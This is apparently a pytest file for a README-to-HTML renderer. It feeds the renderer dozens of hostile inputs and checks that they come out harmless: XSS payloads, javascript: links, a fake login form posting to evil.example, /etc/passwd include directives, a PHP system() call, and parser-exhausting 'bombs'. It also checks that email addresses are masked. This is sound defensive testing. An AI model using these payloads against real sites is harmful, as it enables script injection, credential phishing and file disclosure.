"""READMEs as HTML: what hostile ones may not do, what honest ones keep."""

from __future__ import annotations

import re
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from research_platform_assets.privacy import MASK, contains_address
from research_platform_assets.site.markup import MAXIMUM_CHARACTERS, render_readme
from research_platform_assets_tests.site.checks import Element, elements, text_of

OID = "a" * 40
HOME = "https://github.com/lab/tool"

ALLOWED = {
    "a": {"href", "rel", "class", "title", "id"},
    "div": {"class", "id", "tabindex", "dir", "lang", "title"},
    "pre": {"class", "tabindex", "id"},
    "img": {"alt", "class", "decoding", "height", "loading", "referrerpolicy", "src", "title", "width"},
}
FORBIDDEN_TAGS = set(
    "script style iframe object embed form input button select textarea meta link base svg math video audio picture"
    " source template frame frameset applet noscript title html head body main nav header footer h1 h2".split()
)


def render(text: str, format: str = "markdown", path: str = "README.md") -> str:  # noqa: A002
    return render_readme(text, format, full_name="lab/tool", head_oid=OID, path=path, html_url=HOME)


def is_harmless(element: Element) -> bool:
    """Whether an element can neither run, submit, style nor shadow anything, and loads at most an image, unseen."""
    allowed = ALLOWED.get(element.tag)
    loads = {"style", "srcset", "action", "name"} | ({"src"} if element.tag != "img" else set())
    return (
        element.tag not in FORBIDDEN_TAGS
        and not any(name.startswith("on") or name in loads for name in element)
        and element.get("src", "https://").startswith("https://")
        and (element.tag != "img" or (element["loading"], element["referrerpolicy"]) == ("lazy", "no-referrer"))
        and (allowed is None or set(element) <= allowed)
        and element.get("id", "readme-").startswith("readme-")
        and re.match(r"https?://|#readme-", element.get("href", "https://")) is not None
    )


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "hello <script src=//evil.example/x.js></script> world",
    "script split over a comment": "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "nested script": "<scr<script>ipt>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "image with handler in capitals": "<IMG SRC=x OnErRoR='alert(1)'>",
    "svg with handler": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math with link": "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in HTML": "<a href='javascript:alert(1)'>x</a>",
    "javascript link with entities": "<a href='&#106;&#x61;vascript:alert(1)'>x</a>",
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript link with a line break": "<a href='java\nscript:alert(1)'>x</a>",
    "javascript link after control characters": "<a href='\x01\x02 javascript:alert(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "file link": "[x](file:///etc/passwd)",
    "blob link": "<a href='blob:https://github.com/1'>x</a>",
    "link with account": "[x](https://github.com@evil.example/)",
    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "automatic link": "<javascript:alert(1)>",
    "style element": "<style>body{display:none}</style>",
    "style attribute": "<div style='position:fixed;inset:0'>cover</div>",
    "class of the page": "<div class='site-header panel'>x</div>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "iframe with document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=x.swf><embed src=x.swf></object>",
    "form": "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "button with form action": "<button formaction=https://evil.example>x</button>",
    "clobbering id": "<a id='main-content' name='theme'>x</a><img name=body><div id=documentElement></div>",
    "end of the page": "</div></section></main></body></html><h1>Mine</h1>",
    "video": "<video src=x.mp4 autoplay onplay=alert(1)></video>",
    "picture": "<picture><source srcset='https://evil.example/a.png'><img src=b.png></picture>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "unclosed everything": "<table><tr><td><ul><li><a href='x'><b><i",
    "unclosed comment": "<!-- <p>hidden",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml version='1.0'?><?php system('id') ?>",
    "plaintext": "<plaintext><script>alert(1)",
    "null bytes": "a\x00b<scr\x00ipt>alert(1)</scr\x00ipt>",
    "lone surrogate": "a\ud800b <b>c</b>",
    "title attribute breaking out": "[x](https://example.org '\"><script>alert(1)</script>')",
    "alt text breaking out": "![\"><script>alert(1)</script>](x.png)",
    "fence breaking out": "```\"><script>alert(1)</script>\nx\n```",
    "table cell with HTML": "|a|\n|-|\n|<script>alert(1)</script>|",
    "heading with HTML": "# <img src=x onerror=alert(1)> Title",
    "wide spans": "<table><tr><td colspan=99999999 rowspan=99999999>x</td></tr></table>",
}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("format", ["markdown", "text"])
def test_a_hostile_readme_leaves_nothing_that_runs_loads_submits_styles_or_shadows(text: str, format: str) -> None:  # noqa: A002
    found = elements(render(text, format))
    assert [element for element in found if not is_harmless(element)] == []


RST_HOSTILE = {
    "raw directive": ".. raw:: html\n\n   <script>alert(1)</script>",
    "raw role": ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`",
    "include": ".. include:: /etc/passwd",
    "include as code": ".. include:: /etc/passwd\n   :literal:",
    "table from a file": ".. csv-table:: x\n   :file: /etc/passwd",
    "table from an address": ".. csv-table:: x\n   :url: https://evil.example/x.csv",
    "javascript link": "`x <javascript:alert(1)>`_",
    "javascript image target": ".. image:: x.png\n   :target: javascript:alert(1)",
    "embedded image": ".. image:: /etc/hostname\n   :loading: embed",
    "scaled image": ".. image:: /etc/hostname\n   :scale: 50%",
    "object": ".. image:: x.swf",
    "class of the page": ".. class:: site-header\n\ntext",
    "meta": ".. meta::\n   :http-equiv=refresh: 0;url=https://evil.example",
    "title": ".. title:: Mine",
    "math": ":math:`\\href{javascript:alert(1)}{x}`",
    "circular substitution": ".. |a| replace:: |b|\n.. |b| replace:: |a|\n\n|a|",
}


@pytest.mark.parametrize("text", RST_HOSTILE.values(), ids=RST_HOSTILE.keys())
def test_hostile_restructuredtext_is_harmless_and_reads_no_file(text: str) -> None:
    html = render(text, "restructuredtext", "README.rst")
    assert [element for element in elements(html) if not is_harmless(element)] == []
    assert "root:" not in html


def test_restructuredtext_cannot_embed_a_file_of_this_machine(tmp_path: Path) -> None:
    secret = tmp_path / "secret.svg"
    secret.write_text("<svg xmlns='http://www.w3.org/2000/svg'><text>SECRET</text></svg>")
    for target in (secret.as_posix(), secret.as_uri()):
        html = render(f".. image:: {target}\n   :loading: embed\n   :alt: picture\n", "restructuredtext")
        assert "SECRET" not in html
        assert "picture" in html


def test_restructuredtext_cannot_bring_html_of_its_own() -> None:
    html = render(".. raw:: html\n\n   <b>bold</b>\n\ntext", "restructuredtext")
    assert "<b>" not in html
    assert "<p>text</p>" in html


def test_a_role_that_one_document_defines_is_unknown_to_the_next() -> None:
    using = "See :shout:`this`."
    before = render(using, "restructuredtext")
    render(f".. role:: shout(strong)\n\n{using}", "restructuredtext")
    assert render(using, "restructuredtext") == before


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="<>/=\"'&;:#!-[]()`*_|~ \n\tabhijnoprstv1\x00\u202e", max_size=200))
def test_no_text_whatever_gets_anything_harmful_through(text: str) -> None:
    for format in ("markdown", "restructuredtext"):  # noqa: A001
        assert [element for element in elements(render(text, format)) if not is_harmless(element)] == []


BOMBS = {
    "nested divs": ("markdown", "<div>" * 100_000),
    "nested quotes": ("markdown", ">" * 50_000 + "x"),
    "nested lists": ("markdown", "- " * 5_000 + "x"),
    "nested bold": ("markdown", "<b>" * 29_000 + "x"),
    "brackets": ("markdown", "[" * 20_000),
    "stars": ("markdown", "*a " * 10_000),
    "backticks": ("markdown", " ".join("`" * n for n in range(1, 300))),
    "many rows": ("markdown", "|a|b|\n|-|-|\n" + "|x|y|\n" * 10_000),
    "many columns": ("markdown", "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|\n" * 20),
    "same heading": ("markdown", "# a\n" * 10_000),
    "same id": ("markdown", "<a id=x></a>" * 10_000),
    "nested tables": ("markdown", "<table><tr><td>" * 9_000),
    "substitutions": (
        "restructuredtext",
        "\n".join(f".. |a{n}| replace:: " + f"|a{n + 1}| " * 10 for n in range(12)) + "\n.. |a12| replace:: x\n\n|a0|",
    ),
    "deep restructuredtext": ("restructuredtext", "\n".join("  " * n + "- a\n" for n in range(400))),
    "long line": ("restructuredtext", "*a* " * 20_000),
    "formulas": ("markdown", "$x$ " * 20_000),
    "formula in formulas": ("markdown", f"${'{' * 3_000}x{'}' * 3_000}$"),
    "formula of a formula": ("markdown", "$\\def\\a{\\a\\a}\\a$"),
    "dollars": ("markdown", "$a" * 100_000),
    "footnotes": ("markdown", "[^a]" * 20_000 + "\n\n[^a]: b"),
    "footnotes of footnotes": ("markdown", "".join(f"[^{n}]: [^{n + 1}]\n\n" for n in range(3_000)) + "[^0]"),
    "colons": ("markdown", ":a" * 100_000),
    "code to colour": ("markdown", "```python\nf(x, 'a', 1)\n```\n" * 2_000),
    "code that is slow to colour": ("markdown", "```ts\n" + ("a." * 900 + "\n```\n\n```ts\n") * 50),
    "Org emphasis": ("org", "*a /b _c " * 10_000),
    "Org links": ("org", "[[" * 200_000),
    "Org lists": ("org", "".join(" " * n + "- a\n" for n in range(500))),
}


@pytest.mark.parametrize(("format", "text"), BOMBS.values(), ids=BOMBS.keys())
def test_a_document_built_to_exhaust_is_answered_soon_and_stays_small(format: str, text: str) -> None:  # noqa: A002
    started = time.process_time()
    html = render(text, format)
    assert time.process_time() - started < 5
    assert len(html) < 4_000_000
    assert deepest(html) <= 140


def deepest(html: str) -> int:
    depth = deepest_found = 0
    for tag in re.findall(r"<(/?)[a-z][a-z0-9]*", re.sub(r"<(?:br|hr|wbr|col)\b", "", html)):
        depth += -1 if tag else 1
        deepest_found = max(deepest_found, depth)
    return deepest_found


def test_a_document_that_is_too_much_is_shown_as_plain_text_and_says_so() -> None:
    html = render("<b>x</b>" * 40_000)
    assert "Shown as plain text, because the document has more marks than can be read in a second." in html
    assert f'<a href="{HOME}"' in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html


def test_a_note_about_a_repository_without_a_usable_address_has_no_link() -> None:
    html = render_readme("x " * 300_000, "text", full_name="lab/tool", head_oid=None, path="README", html_url="odd")
    assert html.startswith(f'<p class="note">Only the first {MAXIMUM_CHARACTERS:,} characters are shown.</p>')


def test_only_the_beginning_of_a_very_long_document_is_shown() -> None:
    html = render("word\n" * 110_000 + "THE END", "text")
    assert f"Only the first {MAXIMUM_CHARACTERS:,} characters are shown." in html
    assert "THE END" not in html


ADDRESSES = {
    "plain": "write to ada@example.org",
    "mailto link": "[write](mailto:ada@example.org)",
    "mailto in HTML": "<a href='mailto:ada@example.org'>write</a>",
    "mailto with entities": "<a href='&#109;ailto:ada&#64;example.org'>write</a>",
    "mailto with percent": "<a href='mailto:ada%40example.org'>write</a>",
    "entity in text": "ada&#64;example.org",
    "split by emphasis": "ada@**example**.org",
    "split by a comment": "ada<!-- x -->@example.org",
    "split by spans": "<span>ada</span><span>@</span><span>example.org</span>",
    "escaped": "ada\\@example.org",
    "in code": "`ada@example.org`",
    "in a fence": "```\nada&#64;example.org ada@example.org\n```",
    "in a title": "[x](https://example.org 'ada@example.org')",
    "in a title of an explanation": "<abbr title='ada&#64;example.org'>x</abbr>",
    "outside any block": "<b>\nada</b><i>@example.org</i>",
    "in an alt text": "![ada@example.org](x.png)",
    "in a link": "[x](https://example.org/?to=ada@example.org)",
    "in a link with percent": "[x](https://example.org/?to=ada%40example.org)",
    "in a heading": "# ada@example.org",
    "in an id": "<a id='ada@example.org'></a>",
    "in an angle link": "<ada@example.org>",
    "in a formula": "$ada@example.org$",
    "before a formula": "ada@$example$.org",
    "in code with colours": "```python\nada@example.org\n```",
    "in code after a text": "ada`@example.org`",
}


@pytest.mark.parametrize("text", ADDRESSES.values(), ids=ADDRESSES.keys())
@pytest.mark.parametrize("format", ["markdown", "org", "restructuredtext", "text"])
def test_no_address_is_shown_however_it_is_written(text: str, format: str) -> None:  # noqa: A002
    html = render(text, format)
    assert not contains_address(html)
    assert not contains_address(text_of(html))


def test_a_link_whose_address_was_masked_keeps_its_text() -> None:
    assert render(f"[write to us]({MASK}) <{MASK}>").startswith("<p>write to us")


def test_text_beside_a_masked_address_keeps_its_markup() -> None:
    assert render("*a* ada@example.org **b**") == f"<p><em>a</em> {MASK} <strong>b</strong></p>\n"


def test_readmes_of_recorded_repositories_have_no_link_that_the_site_would_break(shared_archive: Path) -> None:
    readmes = [path for path in sorted((shared_archive / "blobs").iterdir()) if path.stat().st_size < 60_000]
    for path in readmes:
        html = render(path.read_bytes().decode("utf-8", "replace"))
        links = [element["href"] for element in elements(html) if "href" in element]
        assert [link for link in links if not link.startswith("#") and not urlsplit(link).hostname] == []
        assert not contains_address(html)
